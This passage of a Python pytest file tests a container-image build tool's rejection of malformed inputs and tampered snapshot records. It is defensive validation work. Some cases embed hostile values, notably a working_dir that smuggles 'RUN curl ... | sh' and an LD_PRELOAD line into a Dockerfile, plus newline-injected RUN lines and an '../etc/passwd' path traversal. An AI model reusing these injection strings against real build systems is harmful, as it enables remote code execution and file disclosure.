        argv=("plan", "--cells", "cells.json", "out"),
        code=11,
        says='cells.json: expected {"include": [{"runtime": …, "arch": …}, …]}',
        files={"cells.json": b"include: []\n"},
    ),
    Case(
        id="cells-no-include",
        argv=("plan", "--cells", "cells.json", "out"),
        code=11,
        says='cells.json: expected {"include": [',
        files={"cells.json": b'{"cells": []}'},
    ),
    Case(
        id="cells-include-not-a-list",
        argv=("plan", "--cells", "cells.json", "out"),
        code=11,
        says='cells.json: expected {"include": [',
        files={"cells.json": b'{"include": {"runtime": "provided.debian12"}}'},
    ),
    Case(
        id="cells-nested-deeply",  # deeper than the JSON parser recurses
        argv=("plan", "--cells", "cells.json", "out"),
        code=11,
        says='cells.json: expected {"include": [',
        files={"cells.json": b'{"include": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"},
    ),
    Case(
        id="cells-arch-not-a-string",
        argv=("plan", "--cells", "cells.json", "out"),
        code=11,
        says='cells.json: expected {"include": [',
        files={"cells.json": b'{"include": [{"runtime": "provided.debian12", "arch": 64}]}'},
    ),
    # A corrupt record is a cell that failed: its runtime is not published (exit 0, one
    # warning naming the file), as workdir.py promises for every record.
    Case(
        id="inputs-record-truncated",
        argv=("plan", "--cells", "cells.json", "out"),
        code=0,
        says=f"warning: {INPUTS_JSON}: unreadable record (not valid JSON)",
        files={"cells.json": CELLS, INPUTS_JSON: record()[:40]},
    ),
    Case(
        id="inputs-record-a-list",
        argv=("plan", "--cells", "cells.json", "out"),
        code=0,
        says=f"warning: {INPUTS_JSON}: unreadable record (TypeError)",
        files={"cells.json": CELLS, INPUTS_JSON: b"[1, 2]"},
    ),
    Case(
        id="inputs-record-bad-state",
        argv=("plan", "--cells", "cells.json", "out"),
        code=0,
        says="unreadable record (state 'published' is neither built nor unchanged)",
        files={"cells.json": CELLS, INPUTS_JSON: record(state="published")},
    ),
    Case(
        id="inputs-record-other-cell",
        argv=("plan", "--cells", "cells.json", "out"),
        code=0,
        says="unreadable record (the record is of python3.11.debian12/x86_64)",
        files={"cells.json": CELLS, INPUTS_JSON: record(runtime="python3.11.debian12")},
    ),
    Case(
        id="inputs-record-not-utf-8",
        argv=("plan", "--cells", "cells.json", "out"),
        code=0,
        says="unreadable record (not valid JSON)",
        files={"cells.json": CELLS, INPUTS_JSON: b'{"runtime": "\xff"}'},
    ),
]


# --- records a stage hands on, read by a stage that cannot redo it -------------------------
CASES += [
    Case(
        id="branch-without-snapshot",
        argv=BRANCH,
        code=5,
        says=f"{SNAPSHOT_JSON}: no snapshot; run `lambda-images snapshot` first",
    ),
    Case(
        id="branch-snapshot-truncated",
        argv=BRANCH,
        code=5,
        says=f"{SNAPSHOT_JSON}: unreadable record (not valid JSON); run `lambda-images snapshot`",
        files={SNAPSHOT_JSON: snapshot()[:100]},
    ),
    Case(
        id="branch-snapshot-layer-escapes",
        argv=BRANCH,
        code=5,
        says="unreadable record (layer file '../../../../etc/passwd' is not <its sha256>.tar.xz)",
        files={
            SNAPSHOT_JSON: snapshot(
                layers=[{**GOOD_SNAPSHOT["layers"][0], "file": "../../../../etc/passwd"}]
            )
        },
    ),
    Case(
        id="branch-snapshot-of-another-cell",
        argv=BRANCH,
        code=5,
        says="unreadable record (the record is of provided.debian12/arm64)",
        files={SNAPSHOT_JSON: snapshot(arch="arm64", docker_arch="arm64")},
    ),
    Case(
        id="branch-snapshot-runtime-a-path",
        argv=BRANCH,
        code=5,
        says="unreadable record (runtime '../x' is not a runtime identifier)",
        files={SNAPSHOT_JSON: snapshot(runtime="../x")},
    ),
    # snapshot.json's config reaches the branch Dockerfile: each field is checked on reading
    Case(
        id="branch-snapshot-working-dir-newline",
        argv=BRANCH,
        code=5,
        says="unreadable record (config.working_dir holds the control character U+000A)",
        files={
            SNAPSHOT_JSON: snapshot(
                config={
                    **GOOD_SNAPSHOT["config"],
                    "working_dir": "/var/task\nRUN curl -s https://x.invalid/i | sh\n"
                    "ENV LD_PRELOAD=/tmp/x.so",
                }
            )
        },
    ),
    Case(
        id="branch-snapshot-user-line-separator",
        argv=BRANCH,
        code=5,
        says="unreadable record (config.user holds the control character U+2028)",
        files={SNAPSHOT_JSON: snapshot(config={**GOOD_SNAPSHOT["config"], "user": "x\u2028RUN"})},
    ),
    Case(
        id="branch-snapshot-labels-a-list",
        argv=BRANCH,
        code=5,
        says="unreadable record (ImageConfig.labels is not of type dict[str, str])",
        files={SNAPSHOT_JSON: snapshot(config={**GOOD_SNAPSHOT["config"], "labels": []})},
    ),
    Case(
        id="branch-snapshot-env-a-number",
        argv=BRANCH,
        code=5,
        says="unreadable record (config.env[0] is not a string)",
        files={SNAPSHOT_JSON: snapshot(config={**GOOD_SNAPSHOT["config"], "env": [1]})},
    ),
    Case(
        id="branch-snapshot-entrypoint-not-text",
        argv=BRANCH,
        code=5,
        says="unreadable record (config.entrypoint[0] is not a string)",
        files={SNAPSHOT_JSON: snapshot(config={**GOOD_SNAPSHOT["config"], "entrypoint": [["sh"]]})},
    ),
    Case(
        id="branch-snapshot-label-newline",
        argv=BRANCH,
        code=5,
        says="unreadable record (config.labels['a'] holds the control character U+000A)",
        files={
            SNAPSHOT_JSON: snapshot(config={**GOOD_SNAPSHOT["config"], "labels": {"a": "b\nRUN x"}})
        },
    ),
    Case(
        id="branch-snapshot-config-missing-field",
        argv=BRANCH,
        code=5,
        says="unreadable record (ImageConfig has no 'user')",
        files={
            SNAPSHOT_JSON: snapshot(
                config={k: v for k, v in GOOD_SNAPSHOT["config"].items() if k != "user"}
            )
        },
    ),
    Case(
        id="branch-snapshot-docker-arch",
        argv=BRANCH,
        code=5,
        says="unreadable record (docker_arch 's390x' is not x86_64's)",
        files={SNAPSHOT_JSON: snapshot(docker_arch="s390x")},
    ),
    # a snapshot killed midway leaves the previous one whole; a layer gone anyway is named
    Case(
        id="branch-snapshot-layer-missing",
        argv=BRANCH,
        code=5,
        says=f"out/provided.debian12/x86_64/layers/{SHA}.tar.xz: a layer of the snapshot is "
        "missing; run `lambda-images snapshot` again",
        files={SNAPSHOT_JSON: snapshot()},
    ),
    Case(
        id="snapshot-without-build",
        argv=("snapshot", "provided.debian12", "--arch", "x86_64"),
        code=5,
        says="provided.debian12/x86_64: no build record in out/provided.debian12/x86_64",
    ),
    Case(
        id="snapshot-build-record-a-list",
        argv=("snapshot", "provided.debian12", "--arch", "x86_64"),
        code=5,
        says="build.json: unreadable record (TypeError); build provided.debian12/x86_64 again",
        files={"out/provided.debian12/x86_64/build.json": b"[]"},
    ),
]


# --- the harness ------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def registry() -> Iterator[tuple[str, list[str]]]:
    """An HTTP server on 127.0.0.1 standing in for a registry: it answers 401 to everything and
    remembers each request, so that a case that sends anything is caught."""
    requests_seen: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def handle_one_request(self) -> None:
            super().handle_one_request()

        def _any(self) -> None:
            requests_seen.append(f"{self.command} {self.path}")
            self.send_response(401)
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_GET = do_HEAD = do_POST = do_PUT = do_PATCH = do_DELETE = _any

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"127.0.0.1:{server.server_address[1]}", requests_seen
    server.shutdown()
    server.server_close()


def tree(root: Path) -> dict[str, tuple[int, bytes | None]]:
    """Every path under ``root`` with its mode and (for files) its bytes."""
    out: dict[str, tuple[int, bytes | None]] = {}
    for path in sorted(root.rglob("*")):
        rel = path.relative_to(root).as_posix()
        st = path.lstat()
        out[rel] = (st.st_mode, path.read_bytes() if path.is_file() else None)
    return out


def prepare(case: Case, folder: Path) -> None:
    matrix = case.matrix
    text = matrix if isinstance(matrix, bytes) else (matrix or (lambda t: t))(MATRIX).encode()
    (folder / "runtimes.yaml").write_bytes(text)
    lock = case.lock
    if isinstance(lock, bytes):
        (folder / "runtimes.lock.json").write_bytes(lock)
    else:
        data = (lock or (lambda d: d))(copy.deepcopy(LOCK))
        (folder / "runtimes.lock.json").write_text(json.dumps(data, indent=2))
    for rel, content in case.files.items():
        (folder / rel).parent.mkdir(parents=True, exist_ok=True)
        (folder / rel).write_bytes(content)
    subprocess.run(["git", "init", "--quiet", "--bare", str(folder / "remote.git")], check=True)


def test_corpus_is_large_and_named_uniquely() -> None:
    assert len(CASES) >= 60
    assert len({c.id for c in CASES}) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_bad_input_is_one_line_with_its_exit_code_and_changes_nothing(
    case: Case,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
    registry: tuple[str, list[str]],
) -> None:
    host, requests_seen = registry
    prepare(case, tmp_path)
    for name in list(os.environ):
        if name.startswith(("LAMBDA_IMAGES_", "DOCKER_")) or name in (
            "SOURCE_DATE_EPOCH",
            "GITHUB_ACTIONS",
        ):
            monkeypatch.delenv(name)
    monkeypatch.setenv("LAMBDA_IMAGES_CACHE", str(tmp_path / "cache"))
    monkeypatch.setenv("DOCKER_HOST", f"unix://{tmp_path}/no-engine.sock")
    monkeypatch.setenv("DOCKER_CONFIG", str(tmp_path / "docker-config"))
    monkeypatch.setenv("NO_COLOR", "1")
    for name, value in case.env.items():
        monkeypatch.setenv(name, value)
    monkeypatch.chdir(tmp_path)
    before = tree(tmp_path)
    seen_before = len(requests_seen)
    remote = (tmp_path / "remote.git").as_uri()
    argv = [a.replace("{registry}", host).replace("{remote}", remote) for a in case.argv]

    try:
        main(argv)
        code = 0
    except SystemExit as exc:
        code = exc.code if isinstance(exc.code, int) else 1
    out, err = capfd.readouterr()

    lines = [line for line in err.splitlines() if line.strip()]
    assert "Traceback" not in err
    assert len(lines) == 1, err
    assert case.says in lines[0]
    assert code == case.code, err
    if case.at is not None:
        text = (tmp_path / "runtimes.yaml").read_text("utf-8")
        number = next(i for i, line in enumerate(text.splitlines(), 1) if case.at in line)
        assert f"runtimes.yaml:{number}: " in lines[0]
    if case.secret is not None:
        assert case.secret not in out + err
    # The mark that a lock file's content passed its schema (lock.py) is a cache entry, not
    # something the command made: the lock was valid, whatever failed after.
    after = {
        path: entry
        for path, entry in tree(tmp_path).items()
        if path not in ("cache", "cache/checked") and not path.startswith("cache/checked/lock-")
    }
    for written in case.writes:
        assert json.loads((tmp_path / written).read_text("utf-8"))["ok"] is False
        del after[written]
    assert after == before  # nothing written, nothing half-written, nothing pushed
    sent = requests_seen[seen_before:]
    if case.reads:
        assert sent and all(r.startswith(("GET ", "HEAD ")) for r in sent), sent
    else:
        assert sent == []  # nothing sent to the registry
